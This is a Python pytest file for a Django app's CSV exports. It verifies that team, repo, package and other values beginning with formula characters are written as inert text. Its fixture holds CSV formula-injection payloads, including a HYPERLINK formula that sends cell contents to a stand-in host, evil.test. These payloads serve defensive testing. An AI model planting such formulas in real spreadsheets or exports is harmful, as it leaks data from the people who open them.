"""No exported cell runs as a spreadsheet formula, whatever a team, repo, package or reason says."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.utils import timezone

from readiness.models import Repo, Rollup, Scan, ScanFinding, Team, Verdict
from readiness.queries.exports import spreadsheet_safe
from tests.readiness.factories import viewer_client  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

TEAM = "@SUM(1+1)"
REPO = '=HYPERLINK("https://evil.test/?leak="&A1,"click")'
PACKAGE = "+cmd"
REASON = "-2+3"


@pytest.fixture
def hostile_org(db) -> Repo:
    team = Team.objects.create(name=TEAM)
    repo = Repo.objects.create(name=REPO, url="https://git.example.test/x.git", team=team)
    scan = Scan.objects.create(
        repo=repo,
        state=Scan.State.DONE,
        summary={
            "linux/arm64": {"wheel": 0, "sdist": 0, "none": 1, "unknown": 0, "n/a": 0, "blockers": 2, "ready": False}
        },
    )
    Repo.objects.filter(pk=repo.pk).update(latest_scan=scan)
    Verdict.objects.create(
        scan=scan,
        package=PACKAGE,
        version="1.0",
        target="linux/arm64",
        status="none",
        file="\tx.whl",
        lockfile="\rrequirements.txt",
        reason=REASON,
    )
    ScanFinding.objects.create(
        scan=scan, path="=Dockerfile", line=1, rule="platform-pinned", severity="blocker", message="@pinned"
    )
    today = timezone.localdate()
    for day in (today - dt.timedelta(days=7), today):
        Rollup.objects.create(
            day=day, scope=Rollup.Scope.TEAM, team=team, target="linux/arm64", repos=1, blocked=1, blockers=2
        )
        Rollup.objects.create(day=day, scope=Rollup.Scope.ORG, target="linux/arm64", repos=1, blocked=1, blockers=2)
    return repo


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []


@pytest.mark.parametrize("url", ["/export/matrix.csv", "/export/blockers.csv", "/export/trends.csv"])
def test_every_csv_export_writes_outside_text_as_text(viewer_client, hostile_org, url):
    cells = _cells(b"".join(viewer_client.get(url).streaming_content).decode())
    _assert_inert(cells)
    assert f"'{TEAM}" in cells  # the value is kept, only made inert
    if url != "/export/trends.csv":
        assert f"'{REPO}" in cells


def test_matrix_csv_cells_keep_their_text(viewer_client, hostile_org):
    cells = _cells(b"".join(viewer_client.get("/export/matrix.csv").streaming_content).decode())
    assert {f"'{PACKAGE}", "'\tx.whl"} <= set(cells)


def test_matrix_command_csv_is_inert_too(hostile_org, capsys):
    call_command("matrix", "--format", "csv")
    cells = _cells(capsys.readouterr().out)
    _assert_inert(cells)
    assert f"'{REPO}" in cells


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert list(spreadsheet_safe([["payments", -1, 0, "a-b", "=1", ""]])) == [["payments", -1, 0, "a-b", "'=1", ""]]
